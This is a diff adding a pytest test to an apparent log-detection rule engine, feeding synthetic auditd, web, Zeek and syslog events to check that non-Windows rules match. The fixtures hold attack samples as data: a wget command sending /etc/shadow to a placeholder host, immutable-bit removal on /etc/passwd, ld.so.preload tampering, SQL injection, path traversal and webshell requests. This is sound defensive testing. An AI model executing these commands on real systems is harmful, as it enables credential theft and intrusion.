@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import io
 from pathlib import Path
 
 import pytest
@@ -75,3 +76,71 @@ def test_every_rule_matches_its_regression_events(public: RuleSet) -> None:
                 wrong.append(f"{rule.meta.title}: {found} of {expected}")
     assert done >= 90
     assert wrong == []
+
+
+def _audit(number: int, program: str, *arguments: str, more: str = "") -> str:
+    head = f"msg=audit(1764481363.243:{number}):"
+    words = " ".join(f'a{place}="{word}"' for place, word in enumerate(arguments))
+    who = f'ppid=1 pid={number} auid=1000 uid=0 euid=0 comm="x" exe="{program}" key=(null)'
+    lines = [
+        f"type=SYSCALL {head} arch=c000003e syscall=59 success=yes exit=0 {who}",
+        f"type=EXECVE {head} argc={len(arguments)} {words}",
+        f'type=CWD {head} cwd="/home/u"',
+    ]
+    return "\n".join([*lines, *([more.format(head=head)] if more else [])]) + "\n"
+
+
+_TIME = "[10/Oct/2025:13:55:36 +0800]"
+STORIES: dict[str, tuple[str, set[str]]] = {
+    "auditd": (
+        _audit(1, "/usr/bin/base64", "base64", "-d", "/tmp/x")
+        + _audit(2, "/usr/bin/chattr", "chattr", "-i", "/etc/passwd")
+        + _audit(3, "/usr/bin/wget", "wget", "--post-file=/etc/shadow", "http://x")
+        + _audit(4, "/bin/x", "x", more='type=PATH {head} item=1 name="/etc/ld.so.preload" nametype=CREATE'),
+        {
+            "Decode Base64 Encoded Text",  # category process_creation
+            "Remove Immutable File Attribute",  # process_creation
+            "Remove Immutable File Attribute - Auditd",  # service auditd, EXECVE
+            "Data Exfiltration with Wget",
+            "Modification of ld.so.preload",  # service auditd, PATH
+        },
+    ),
+    "web": (
+        f'10.0.0.1 - - {_TIME} "GET /a.php?id=1%20UNION%20SELECT%201 HTTP/1.1" 200 23 "-" "sqlmap/1.0"\n'
+        f'10.0.0.1 - - {_TIME} "GET /../../../../etc/passwd HTTP/1.1" 200 23 "-" "Mozilla/5.0"\n'
+        f'10.0.0.1 - - {_TIME} "GET /shell.jsp?cmd=whoami HTTP/1.1" 200 23 "-" "Mozilla/5.0"\n',
+        {
+            "SQL Injection Strings In URI",
+            "Path Traversal Exploitation Attempts",
+            "Suspicious User-Agents Related To Recon Tools",
+            "Windows Webshell Strings",
+        },
+    ),
+    "zeek": (
+        '{"_path":"dns","ts":1700000000.5,"uid":"C","id.orig_h":"10.0.0.1","query":"xx.monerohash.com"}\n'
+        '{"_path":"dce_rpc","ts":1700000000.5,"uid":"C","endpoint":"efs","operation":"EfsRpcOpenFileRaw"}\n'
+        '{"_path":"smb_files","ts":1700000000.5,"uid":"C","action":"SMB::FILE_OPEN","name":"Temp\\\\lsass.dmp"}\n',
+        {
+            "DNS Events Related To Mining Pools",
+            "Potential PetitPotam Attack Via EFS RPC Calls",
+            "Suspicious Access to Sensitive File Extensions - Zeek",
+        },
+    ),
+    "syslog": (
+        "<86>Oct 11 22:14:15 host sshd[12]: fatal: Timeout. bad client public DH value\n",
+        {"Suspicious OpenSSH Daemon Error"},
+    ),
+}
+
+
+@pytest.mark.parametrize("kind", STORIES)
+def test_rules_see_events_that_are_not_of_windows(public: RuleSet, kind: str) -> None:
+    text, expected = STORIES[kind]
+    made = open_input(io.BytesIO(text.encode()), name=kind)
+    assert made.kind == kind
+    titles = {rule.meta.title for rule in public.rules}
+    assert expected <= titles, "the rules at hand have changed"
+    detector = Detector(RuleSet(rules=tuple(rule for rule in public.rules if rule.logsource[0] != "windows")))
+    for events in made.tables():
+        detector.feed(events)
+    assert expected <= {one.title for one in detector.status() if one.matches}
